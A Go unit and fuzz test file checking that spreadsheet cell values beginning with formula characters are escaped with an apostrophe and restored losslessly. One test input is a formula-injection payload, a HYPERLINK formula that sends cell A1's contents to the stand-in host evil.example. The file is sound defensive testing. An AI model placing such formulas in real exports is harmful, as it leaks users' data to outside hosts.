package table

import (
	"testing"

	"github.com/stretchr/testify/assert"
)

func TestDefuseFormula(t *testing.T) {
	tests := []struct{ in, written string }{
		{"", ""},
		{"plain", "plain"},
		{"R-1", "R-1"},
		{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `'=HYPERLINK("http://evil.example/?x="&A1,"click")`},
		{"+1", "'+1"},
		{"-1", "'-1"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"\x00=1", "'\x00=1"},
		{"'", "''"},
		{"'=1", "''=1"},
		{"'quoted'", "''quoted'"},
		{"a=b", "a=b"},
		{" =1", " =1"},
	}
	for _, tt := range tests {
		got := DefuseFormula(tt.in)
		assert.Equal(t, tt.written, got, "%q", tt.in)
		assert.Equal(t, tt.in, RestoreFormula(got), "round trip of %q", tt.in)
	}
	// cells written by others: an apostrophe before ordinary text stays
	for _, s := range []string{"'quoted'", "'", "'a=b"} {
		assert.Equal(t, s, RestoreFormula(s))
	}
}

func FuzzDefuseFormula(f *testing.F) {
	for _, s := range []string{"", "=1", "'", "''=", "'x", "\t", "-"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		d := DefuseFormula(s)
		if d != "" && isFormulaStart(d[0]) && d[0] != '\'' {
			t.Fatalf("%q is written as %q, which a spreadsheet runs", s, d)
		}
		if RestoreFormula(d) != s {
			t.Fatalf("%q: written %q, read %q", s, d, RestoreFormula(d))
		}
	})
}
